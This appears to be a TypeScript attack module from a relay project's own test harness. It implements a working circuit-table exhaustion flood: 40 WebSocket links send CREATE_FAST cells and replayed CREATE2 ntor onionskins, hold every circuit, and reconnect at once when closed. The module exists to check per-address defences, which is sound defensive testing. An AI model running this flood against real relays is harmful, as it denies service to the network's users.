import { randomBytes } from 'node:crypto';
import { ChanCmd, Create2, CreateFast, Destroy, DestroyReason, HandshakeType } from '../../../shared/cells/index.ts';
import type { Channel } from '../../../shared/channel/index.ts';
import { NtorClient } from '../../../shared/crypto/index.ts';
import type { Attack, AttackReport } from '../harness.ts';
import { Tally, failureLabel } from '../outcomes.ts';
import { bridgeTarget, sleep, webSocketChannel } from '../peer.ts';

/**
 * Attack 3, circuit-table exhaustion: many WebSocket links from one address, half of them sending
 * CREATE_FAST, half CREATE2 (one ntor onionskin, replayed: the relay does the full server handshake
 * every time, the attacker none), as fast as the relay answers, keeping every circuit it gets. A
 * link the relay closes is opened again at once (a refused connection is retried after 50 ms), as
 * an attacker who wants the table would. Without per-address defences the relay's table fills and
 * the next comer gets RESOURCELIMIT.
 */

export interface CircuitExhaustionReport extends AttackReport {
  /** CREATED_FAST / CREATED2 / DESTROY <reason> per answer. */
  readonly answers: Tally;
  readonly links: Tally;
  readonly sent: number;
}

export function circuitExhaustion(opts: { connections?: number; outstanding?: number; maxCreates?: number } = {}): Attack<CircuitExhaustionReport> {
  return async ({ relay, address, signal }) => {
    const target = bridgeTarget(relay);
    const onionskin = NtorClient.start(target.rsaIdentity, target.ntorOnionKey).onionskin;
    const answers = new Tally();
    const links = new Tally();
    const maxCreates = opts.maxCreates ?? 200_000;
    const window = opts.outstanding ?? 64;
    let sent = 0;

    // One slot: a link, opened again whenever the relay closes it, until the attack ends.
    const slot = async (index: number): Promise<void> => {
      while (!signal.aborted && sent < maxCreates) {
        let channel: Channel;
        try {
          channel = await webSocketChannel(relay, address, 10_000);
          links.add('open');
        } catch (e) {
          links.add(`connect failed: ${failureLabel(e)}`);
          await sleep(50);
          continue;
        }
        await flood(index, channel);
      }
    };

    const flood = async (index: number, channel: Channel): Promise<void> => {
      let outstanding = 0;
      let wake: (() => void) | undefined;
      const answered = () => { outstanding--; wake?.(); };
      channel.onClose(() => { links.add(signal.aborted ? 'closed by us' : 'closed by the relay'); wake?.(); });
      while (!signal.aborted && channel.isOpen && sent < maxCreates) {
        while (outstanding < window && channel.isOpen && sent < maxCreates) {
          let id = 0;
          const endpoint = {
            onCell: (cell: { command: number; body: Uint8Array }) => {
              if (cell.command === ChanCmd.DESTROY) {
                answers.add(`DESTROY ${DestroyReason.nameOf(Destroy.decode(cell.body).reason)}`);
                channel.releaseCircuit(id);
                answered();
              } else if (cell.command === ChanCmd.CREATED_FAST || cell.command === ChanCmd.CREATED2) {
                // Keep it: an open circuit is what fills the table.
                answers.add(ChanCmd.nameOf(cell.command));
                answered();
              }
            },
            onChannelClosed: () => {},
          };
          id = channel.registerCircuit(endpoint);
          const fast = index % 2 === 0;
          channel.send(fast
            ? { circId: id, command: ChanCmd.CREATE_FAST, body: new CreateFast(randomBytes(20)).encode() }
            : { circId: id, command: ChanCmd.CREATE2, body: new Create2(HandshakeType.NTOR, onionskin).encode() });
          outstanding++;
          sent++;
        }
        // Until an answer frees a slot; a relay that stops answering gets a look every 100 ms.
        await Promise.race([new Promise<void>((r) => { wake = r; }), sleep(100)]);
        wake = undefined;
      }
      channel.close();
    };

    await Promise.all(Array.from({ length: opts.connections ?? 40 }, (_, i) => slot(i)));
    return {
      summary: `${opts.connections ?? 40} WebSocket links from ${address}, ${sent} CREATE_FAST/CREATE2 sent: ${answers}; links: ${links}`,
      answers,
      links,
      sent,
    };
  };
}
